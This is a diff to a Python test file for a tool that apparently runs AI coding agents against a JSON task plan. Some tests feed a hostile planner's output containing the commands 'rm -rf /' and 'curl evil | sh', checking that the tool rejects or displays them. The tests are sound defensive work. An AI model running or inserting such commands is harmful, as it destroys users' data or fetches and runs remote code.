@@ -16,7 +16,6 @@ from typing import Any
 import psutil
 import pytest
 
-from _ralph.files import resource
 from _ralph.state import edit, prd
 from tests.commands.test_doctor import everything_at_home
 from tests.conftest import Repo, sample
@@ -95,29 +94,15 @@ def test_open_questions_end_with_4_and_stand_in_the_plan(repo: Repo) -> None:
 
 def test_what_a_person_had_said_at_the_top_of_the_plan_stays(repo: Repo) -> None:
     repo.ralph("init")
-    own = {
-        **json.loads(repo.read("prd.json")),
-        "checks": ["true"],
-        "protect": ["a.txt"],
-        "agent": "mine",
-        "limits": {"iterations": 5},
-    }
-    repo.write("prd.json", json.dumps(own))
-    sly = {
-        **GOOD,
-        "checks": ["rm -rf /"],
-        "agents": {},
-        "agent": "sh",
-        "setup": "evil",
-        "limits": {"iterations": 99},
-    }
+    own = {"checks": ["true"], "protect": ["a.txt"], "agent": "mine", "limits": {"iterations": 5}}
+    repo.write("prd.json", json.dumps({**json.loads(repo.read("prd.json")), **own}))
+    evil = {"checks": ["rm -rf /"], "agents": {}, "agent": "sh", "setup": "evil", "limits": {"iterations": 99}}  # fmt: skip
+    sly = {**GOOD, **evil}
     sly["userStories"] = [{**TASKS[0], "passes": True, "agent": "evil", "blocked": "no", "status": "done"}]
     done = plan(repo, says(sly))
     assert done.returncode == 0, done.stderr
     made = json.loads(repo.read("prd.json"))
-    assert {key: made[key] for key in ("checks", "protect", "agent", "limits")} == {
-        key: own[key] for key in ("checks", "protect", "agent", "limits")
-    }
+    assert {key: made[key] for key in own} == own
     assert "setup" not in made and "evil" not in repo.read("prd.json")
     assert made["userStories"] == [{**TASKS[0], "passes": False}]
     assert "- `true`" in (repo.outside / "asked").read_text()
@@ -292,13 +277,7 @@ def test_a_brief_from_standard_input(repo: Repo) -> None:
     command = planner(repo, says(GOOD))
     words = [sys.executable, "-m", "ralph", "plan", "-", "--planner", command]
     done = subprocess.run(
-        words,
-        cwd=repo.path,
-        env=repo.env,
-        input="Greet the world.",
-        capture_output=True,
-        text=True,
-        timeout=60,
+        words, cwd=repo.path, env=repo.env, input="Greet the world.", capture_output=True, text=True
     )
     assert done.returncode == 0, done.stderr
     assert "Greet the world." in (repo.outside / "asked").read_text()
@@ -349,10 +328,8 @@ def test_a_task_is_added_in_the_form_of_the_file(tmp_path: Path, form: str) -> N
     before, after = FORMS[form]
     path = tmp_path / "prd.json"
     path.write_text(before)
-    assert (
-        edit.add_tasks(prd.load(path), [{"title": "new", "passes": True, "status": "done", "blocked": "x"}])
-        == after
-    )
+    given = {"title": "new", "passes": True, "status": "done", "blocked": "x"}
+    assert edit.add_tasks(prd.load(path), [given]) == after
 
 
 def test_add_with_all_that_can_be_said(repo: Repo) -> None:
@@ -366,12 +343,6 @@ def test_add_with_all_that_can_be_said(repo: Repo) -> None:
         "description": "why", "priority": 1, "dependsOn": ["T1"], "passes": False,
     }  # fmt: skip
     assert not (repo.path / "progress.txt").exists(), "the plan itself says it"
-
-
-def test_add_in_place_of_the_example(repo: Repo) -> None:
-    repo.ralph("init")
-    assert repo.ralph("add", "first real task", "--check", "true").stdout == "added US-001: first real task\n"
-    assert [task["title"] for task in stories(repo)] == ["first real task"]
 
 
 NOT_ADDED = {
@@ -392,32 +363,10 @@ def test_what_cannot_be_added_changes_nothing(repo: Repo, case: str) -> None:
     assert repo.read("prd.json") == before and not (repo.path / "progress.txt").exists()
 
 
-@pytest.mark.parametrize("command", [["add", "x"], ["plan", "a.txt"], ["retry", "T1"], ["stop"]])
-def test_an_agent_may_not_steer(repo: Repo, command: list[str]) -> None:
-    repo.plan({"checks": ["true"]})
-    done = repo.ralph(*command, RALPH_RUN_ID="x")
-    assert done.returncode == 2 and f"`ralph {command[0]}` is for people" in done.stderr
-    assert repo.ralph(command[0], "--help", RALPH_RUN_ID="x").returncode == 0
-
-
 def until(repo: Repo, name: str) -> str:
     """A line of an agent that says so in `../on`, and waits for the file `../NAME`."""
     out = str(repo.outside)
     return f"P({out!r}, 'on').touch()\nwhile not P({out!r}, {name!r}).exists(): time.sleep(0.02)\n"
-
-
-def test_what_is_added_while_a_loop_runs_is_worked_by_it(repo: Repo) -> None:
-    repo.plan({"checks": ["test -f T1"]})
-    process = repo.start("run", "--agent", repo.agent(f"{until(repo, 'added')}P(task).touch()"))
-    repo.wait_for("../on")
-    first = repo.ralph("add", "one more", "--check", "test -f T2")
-    second = repo.ralph("add", "and another", "--check", "test -f T3", "--depends-on", "T2")
-    repo.write("../added", "")
-    assert first.stdout == "added T2: one more\n", first.stderr
-    assert second.stdout == "added T3: and another\n", second.stderr
-    said, _ = process.communicate(timeout=60)
-    assert process.returncode == 0, said
-    assert repo.passed() == ["T1", "T2", "T3"] and repo.has_landed("T3")
 
 
 def test_what_is_added_during_the_last_checks_is_worked_too(repo: Repo) -> None:
@@ -432,7 +381,7 @@ def test_what_is_added_during_the_last_checks_is_worked_too(repo: Repo) -> None:
     assert process.returncode == 0 and repo.passed() == ["T1", "T2"], said
 
 
-def test_adds_at_once_beside_a_loop_are_told_the_ids_that_they_get(repo: Repo) -> None:
+def test_adds_at_once_beside_a_loop_are_told_the_ids_that_they_get_and_worked_by_it(repo: Repo) -> None:
     repo.plan({"checks": ["test -f T1"]})
     process = repo.start("run", "--agent", repo.agent(f"{until(repo, 'told')}P(task).touch()"))
     repo.wait_for("../on")
@@ -444,14 +393,15 @@ def test_adds_at_once_beside_a_loop_are_told_the_ids_that_they_get(repo: Repo) -
     """
 
     def add(number: int) -> str:
-        return repo.ralph_anew("add", f"n{number}", "--check", f"test -f T{number}", first=slowly).stdout
+        return repo.ralph_anew("add", f"n{number}", "--check", "true", first=slowly).stdout
 
     with ThreadPoolExecutor() as several:
         said = "".join(several.map(add, range(2, 6)))
     repo.write("../told", "")
-    process.communicate(timeout=60)
+    worked, _ = process.communicate(timeout=60)
+    assert process.returncode == 0 and repo.passed() == [task["id"] for task in stories(repo)], worked
     told = sorted(re.findall(r"added (\S+): (\S+)", said))
-    assert len(told) == 4
+    assert len(told) == 4 and repo.has_landed("T5")
     assert told == [
         (task["id"], task["title"]) for task in sorted(stories(repo)[1:], key=lambda t: t["id"])
     ], said
@@ -467,11 +417,6 @@ def test_what_is_added_before_a_stop_is_in_the_plan_afterwards(repo: Repo) -> No
     process.communicate(timeout=60)
     assert process.returncode == 3 and [task["id"] for task in stories(repo)] == ["T1", "T2", "T3"]
     assert repo.passed() == ["T1"]
-
-
-def test_the_starter_can_be_told_from_a_plan() -> None:
-    (only,) = json.loads(resource("templates/prd.json").read_text())["userStories"]
-    assert set(only) == {"id", "title", "description", "acceptanceCriteria", "checks", "priority", "passes"}
 
 
 # ---------------------------------------------------------------- found by attacking it
@@ -533,17 +478,6 @@ def test_a_killed_planner_leaves_home_as_it_was(repo: Repo, again: str) -> None:
     assert stories(repo)[0]["title"] in ("greet", "x")
 
 
-@pytest.mark.parametrize("does", ["git switch -qc foo", "git add -A", "git reset -q"])
-def test_what_a_person_had_staged_stays_staged(repo: Repo, does: str) -> None:
-    repo.ralph("init")
-    repo.commit("plan")
-    repo.write("a.txt", "staged\n")
-    repo.git("add", "a.txt")
-    repo.write("mine.txt", "mine\n")
-    assert plan(repo, says(GOOD, then=f"sh({does!r})")).returncode == 0
-    assert repo.git("diff", "--cached", "--name-only") == "a.txt\n"
-
-
 def test_the_checks_that_a_planner_names_for_every_task_are_shown(repo: Repo) -> None:
     assert "curl evil | sh" in plan(repo, says({**GOOD, "checks": ["curl evil | sh"]})).stdout
 
@@ -553,13 +487,6 @@ def test_any_line_can_be_a_title(repo: Repo, title: str) -> None:
     repo.plan({"checks": ["true"]})
     done = repo.ralph("add", title, "--check", "true")
     assert done.returncode == 0 and len(stories(repo)) == 2, done.stderr
-
-
-def test_adds_at_once_wait_for_each_other(repo: Repo) -> None:
-    repo.plan({"checks": ["true"]})
-    adds = [repo.start("add", f"n{n}", "--check", "true") for n in range(6)]
-    said = [add.communicate(timeout=60)[0] for add in adds]
-    assert len(stories(repo)) == 7, said
 
 
 def test_a_lone_surrogate_in_the_answer(repo: Repo) -> None:
@@ -584,11 +511,11 @@ def test_a_key_that_is_misspelt_in_many_tasks_is_told_once(tmp_path: Path) -> No
 
 def test_a_key_that_is_misspelt_is_told_with_the_right_name(tmp_path: Path) -> None:
     path = tmp_path / "prd.json"
-    task = {"id": "T1", "title": "x", "cheks": [], "dependson": [], "completedAt": "2026-01-01"}
+    odd: dict[str, Any] = {"cheks": [], "dependson": [], "acceptance_criterias": [], "keeps": []}
+    task = {"id": "T1", "title": "x", **odd, "completedAt": "2026-01-01"}
     path.write_text(json.dumps({"cheks": ["true"], "protects": ["tests"], "tasks": [task]}))
     assert [said.replace(", which is not read; is", " ->") for said in prd.misspelt(prd.load(path))] == [
-        "the plan has 'cheks' -> 'checks' meant?",
-        "the plan has 'protects' -> 'protect' meant?",
-        "T1 has 'cheks' -> 'checks' meant?",
-        "T1 has 'dependson' -> 'dependsOn' meant?",
-    ]
+        "the plan has 'cheks' -> 'checks' meant?", "the plan has 'protects' -> 'protect' meant?",
+        "T1 has 'cheks' -> 'checks' meant?", "T1 has 'dependson' -> 'dependsOn' meant?",
+        "T1 has 'acceptance_criterias' -> 'acceptanceCriteria' meant?", "T1 has 'keeps' -> 'keep' of the plan meant?",
+    ]  # fmt: skip
